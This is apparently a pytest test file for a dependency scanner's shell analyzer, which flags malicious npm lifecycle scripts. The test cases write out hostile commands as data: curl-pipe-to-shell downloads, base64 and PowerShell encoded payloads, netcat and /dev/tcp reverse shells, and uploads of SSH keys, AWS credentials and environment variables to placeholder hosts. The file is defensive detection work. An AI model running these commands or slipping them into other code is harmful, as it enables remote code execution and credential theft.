"""Tests for analyze_shell and script_entry_files on lifecycle lines and .sh fixtures."""

from __future__ import annotations

from pathlib import Path

import pytest

from depshield.analyzers.base import (
    SIGNAL_DECODE,
    SIGNAL_DOWNLOAD,
    SIGNAL_SINK,
    SIGNAL_SOURCE,
    SIGNAL_SPAWN,
)
from depshield.analyzers.shell import analyze_shell, script_entry_files
from depshield.model import Finding

FIXTURES = Path(__file__).parent.parent.parent / "fixtures" / "content" / "shell"
URL = "https://payload.example.invalid/x"
THREATS = ("remoteCodeDownload", "encodedPayloadExecution", "reverseShell")


def of_type(findings: list[Finding], type_: str) -> list[Finding]:
    return [f for f in findings if f.type == type_]


def one(findings: list[Finding], type_: str) -> Finding:
    hits = of_type(findings, type_)
    assert len(hits) == 1, findings
    return hits[0]


def fixture(name: str) -> list[Finding]:
    return analyze_shell((FIXTURES / name).read_text(), name)


@pytest.mark.parametrize(
    ("script", "run"),
    [
        (f"curl -fsSL {URL} | sh", "sh"),
        (f"wget -O- {URL} | sudo bash", "bash"),
        (f"curl -s {URL} | bash -s -- --yes", "bash"),
        (f"curl {URL} | python3 -", "python3"),
        (f"curl -s {URL} | sh 2>&1 | tee install.log", "sh"),  # the grammar nests this one
        (f"iwr {URL} | iex", "iex"),
        (f'powershell -NoP -c "iwr {URL} | iex"', "iex"),
        (f"bash <(curl -s {URL})", "bash"),
        (f'eval "$(wget -qO- {URL})"', "eval"),
        (f'sh -c "$(curl -fsSL {URL})"', "sh"),
    ],
)
def test_download_into_interpreter_is_remote_code(script: str, run: str) -> None:
    f = one(analyze_shell(script, "package.json", 6), "remoteCodeDownload")
    assert (f.file, f.line, f.props["run"], f.top_level) == ("package.json", 7, run, True)


@pytest.mark.parametrize(
    "script",
    [
        f"curl -o f {URL} && chmod +x f && ./f",
        f"certutil -urlcache -split -f {URL}/m.dll m.dll && regsvr32 /s m.dll",
        f"bitsadmin /transfer job {URL}/m.exe %TEMP%\\m.exe & start /B %TEMP%\\m.exe",
        f"curl -fsSL {URL}/inst.sh -o inst.sh; sh inst.sh",
    ],
)
def test_download_saved_then_run_is_remote_code(script: str) -> None:
    f = one(analyze_shell(script, "package.json"), "remoteCodeDownload")
    assert f.props["download"].startswith(URL)


def test_saved_download_run_on_a_later_line_of_a_file() -> None:
    found = fixture("download-and-run.sh")
    f = one(found, "remoteCodeDownload")
    assert (f.file, f.line, f.props["run"]) == ("download-and-run.sh", 9, "/tmp/helper")
    assert one(found, SIGNAL_DOWNLOAD).line == 7
    assert one(found, "networkAccess").props == {"module": "curl"}


@pytest.mark.parametrize(
    "script",
    [
        f"curl -s {URL}/data.json | python -c 'import json,sys; print(json.load(sys.stdin))'",
        f"curl -s {URL}/data.json | jq .version",
        f"curl -o data.json {URL}/data.json && node build.js",
        f"wget {URL}/node.tar.xz && tar xf node.tar.xz && node install.js",
    ],
)
def test_download_that_is_not_run_is_only_network(script: str) -> None:
    found = analyze_shell(script, "package.json")
    assert of_type(found, "remoteCodeDownload") == []
    assert of_type(found, SIGNAL_DOWNLOAD)


def test_base64_piped_to_shell_is_an_encoded_payload() -> None:
    found = analyze_shell("echo aGVsbG8gd29ybGQ= |\n  base64 -d |\n  sh", "x.sh", 10)
    f = one(found, "encodedPayloadExecution")
    assert (f.line, f.props["run"]) == (13, "sh")
    assert one(found, SIGNAL_DECODE).line == 12


@pytest.mark.parametrize("opt", ["-enc", "-EncodedCommand", "-e", "-ec"])
def test_powershell_encoded_command(opt: str) -> None:
    found = analyze_shell(f"powershell.exe -NoP {opt} SQBFAFgAIAAoAE4AZQB3AA==", "p.json", 2)
    assert one(found, "encodedPayloadExecution").line == 3


def test_base64_decode_to_a_file_is_not_execution() -> None:
    found = analyze_shell("echo aGVsbG8= | base64 -d > out.txt", "x.sh")
    assert of_type(found, "encodedPayloadExecution") == []
    assert of_type(found, SIGNAL_DECODE)


def test_exfiltration_probe_sources_and_sinks() -> None:
    found = fixture("exfil-dns.sh")
    kinds = {(f.props["kind"], f.line) for f in of_type(found, SIGNAL_SOURCE)}
    assert {("userinfo", 3), ("hostname", 3), ("sensitive-file", 5)} <= kinds
    sinks = {(f.props["kind"], f.line) for f in of_type(found, SIGNAL_SINK)}
    assert sinks == {("dns", 4), ("network", 5)}


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        ("env | curl -d @- https://c.example.invalid", "env-all"),
        ("printenv > /tmp/e", "env-all"),
        ('curl -H "x: $NPM_TOKEN" https://c.example.invalid', "secret-env"),
        ("cat ~/.ssh/* | nc c.example.invalid 9", "sensitive-file"),
        ("whoami", "userinfo"),
        ("uname -a", "hostname"),
    ],
)
def test_sources(script: str, kind: str) -> None:
    found = analyze_shell(script, "s.sh")
    assert kind in {f.props["kind"] for f in of_type(found, SIGNAL_SOURCE)}


def test_dns_lookup_of_a_fixed_name_is_not_a_sink() -> None:
    assert of_type(analyze_shell("nslookup example.invalid", "s.sh"), SIGNAL_SINK) == []


def test_plain_curl_get_is_not_a_sink_but_fail_flag_is_not_a_form() -> None:
    found = analyze_shell("curl -fsSL https://example.invalid/a.json", "s.sh")
    assert of_type(found, SIGNAL_SINK) == []
    found = analyze_shell("curl -sSF file=@x https://example.invalid/up", "s.sh")
    assert one(found, SIGNAL_SINK).props["kind"] == "network"


def test_reverse_shell_over_dev_tcp() -> None:
    found = analyze_shell("x=1\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "r.sh")
    assert one(found, "reverseShell").line == 2
    assert one(found, SIGNAL_SINK).props["kind"] == "network"


@pytest.mark.parametrize(
    "script",
    [
        "nc 203.0.113.5 4444 -e /bin/bash",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
        'wget -q "http://203.0.113.5/?h=$(cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 9 > /tmp/f)"',
    ],
)
def test_shell_wired_to_netcat_is_a_reverse_shell(script: str) -> None:
    assert one(analyze_shell(script, "package.json", 5), "reverseShell").line == 6


def test_netcat_without_a_shell_is_only_network() -> None:
    found = analyze_shell("echo ping | nc -w 1 203.0.113.5 80", "x.sh")
    assert of_type(found, "reverseShell") == []
    assert one(found, SIGNAL_SINK).props["kind"] == "network"


def test_port_probe_of_localhost_is_not_a_sink() -> None:
    found = analyze_shell('if (: > "/dev/tcp/localhost/${PORT}") 2>/dev/null; then :; fi', "x.sh")
    assert of_type(found, SIGNAL_SINK) == [] and of_type(found, "networkAccess") == []


def test_every_command_is_a_spawn_with_its_name() -> None:
    found = analyze_shell("tsc && node build.js || exit 0", "package.json", 3)
    spawns = [(f.props["command"], f.line) for f in of_type(found, SIGNAL_SPAWN)]
    assert spawns == [("tsc", 4), ("node", 4)]


def test_shell_access_for_explicit_shells_only() -> None:
    assert one(analyze_shell("sh ./x.sh", "p.json"), "shellAccess").props["module"] == "sh"
    assert of_type(analyze_shell("node install.js", "p.json"), "shellAccess") == []


def test_urls_and_paths_in_words_go_through_scan_literal() -> None:
    found = analyze_shell("cat ~/.npmrc", "s.sh")
    assert one(found, "suspiciousString").props["pattern"] == "npmrc"


@pytest.mark.parametrize(
    "script",
    [
        "node-gyp rebuild",
        "husky install",
        "node scripts/postinstall.js",
        "tsc && node build.js",
        "opencollective-postinstall || exit 0",
        "prebuild-install || node-gyp rebuild",
        "command -v node >/dev/null || exit 0",
    ],
)
def test_benign_lifecycle_scripts_raise_no_threat(script: str) -> None:
    found = analyze_shell(script, "package.json")
    types = {f.type for f in found}
    assert types <= {SIGNAL_SPAWN}, found


def test_benign_build_file_raises_no_threat() -> None:
    found = fixture("benign-build.sh")
    assert not [f for f in found if f.type in THREATS or f.type == "suspiciousString"]
    assert [f.line for f in of_type(found, "urlStrings")] == [7, 8]


def test_hostile_input_does_not_raise() -> None:
    for text in ["$((((", "'" * 1000, "(" * 5000, "\x00\ufffd`", "cmd /c " * 50]:
        analyze_shell(text, "x.sh")
        script_entry_files(text)


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("node install.js", ["install.js"]),
        ("node ./scripts/postinstall.js", ["scripts/postinstall.js"]),
        ("node -e \"require('./x')\"", []),
        ("python setup.py install", ["setup.py"]),
        ("sh ./x.sh", ["x.sh"]),
        ("start /B node preinstall.js", ["preinstall.js"]),
        ('start "" /B node preinstall.js', ["preinstall.js"]),
        ("cmd /c node .\\scripts\\x.js", ["scripts/x.js"]),
        ("bash -c 'node a.js && ./b.sh'", ["a.js", "b.sh"]),
        ("cross-env NODE_ENV=production node build.js", ["build.js"]),
        ("node -r ./hook.js index.js", ["hook.js", "index.js"]),
        ("tsc && node build.js", ["build.js"]),
        ("node install", ["install"]),
        ("npm run build", []),
        ("node-gyp rebuild", []),
        ("husky install", []),
        ("python -m pip install .", []),
        ("node $HOME/x.js ../y.js", []),
        ("node /usr/lib/x.js", []),
        ("opencollective-postinstall || exit 0", []),
        ("forever start src/index.js", ["src/index.js"]),
        ("pm2 start ./agent.js --name x", ["agent.js"]),
        ("forever list", []),
        ("pm2 start ecosystem.config.json", []),
    ],
)
def test_script_entry_files(script: str, files: list[str]) -> None:
    assert script_entry_files(script) == files


@pytest.mark.parametrize(
    ("script", "source"),
    [
        ("curl -sd @$HOME/.ssh/id_rsa https://c.example.invalid/k", "sensitive-file"),
        ("curl -F f=@~/.aws/credentials https://c.example.invalid/k", "sensitive-file"),
        ("curl --data-binary=@/etc/passwd https://c.example.invalid/k", "sensitive-file"),
        ("curl -T /etc/passwd ftp://c.example.invalid/", "sensitive-file"),
        ("cat /opt/* | base64 | curl -d @- https://c.example.invalid/u", "host-files"),
        ("tar czf - ~/.ssh | nc 192.0.2.1 4444", "sensitive-file"),
        ("env | curl -d @- https://c.example.invalid/u", "env-all"),
    ],
)
def test_upload_of_secrets_or_host_files_is_exfiltration(script: str, source: str) -> None:
    found = one(analyze_shell(f"echo start\n{script}\n", "x.sh"), "dataExfiltration")
    assert (found.file, found.line) == ("x.sh", 2)
    assert found.props["source"] == [source]


@pytest.mark.parametrize(
    "script",
    [
        "curl --data-binary @coverage.xml https://ci.example.invalid/upload",
        "cat coverage.xml | curl --data-binary @- https://ci.example.invalid/upload",
        "curl -d '{\"a\": 1}' https://api.example.invalid/x",
        "cat ~/.ssh/config | grep Host",
    ],
)
def test_upload_of_project_files_is_not_exfiltration(script: str) -> None:
    assert not of_type(analyze_shell(script, "x.sh"), "dataExfiltration")


@pytest.mark.parametrize(
    "check",
    [
        'echo "$SUM  tool" | sha256sum -c -',
        '[ "$(sha256sum tool | cut -c1-64)" = "$SUM" ] || exit 1',
    ],
)
def test_download_checked_by_digest_before_it_runs_is_not_remote_code(check: str) -> None:
    script = f"curl -fsSLo tool {URL}\n{check}\nchmod +x tool\n./tool\n"
    assert not of_type(analyze_shell(script, "x.sh"), "remoteCodeDownload")
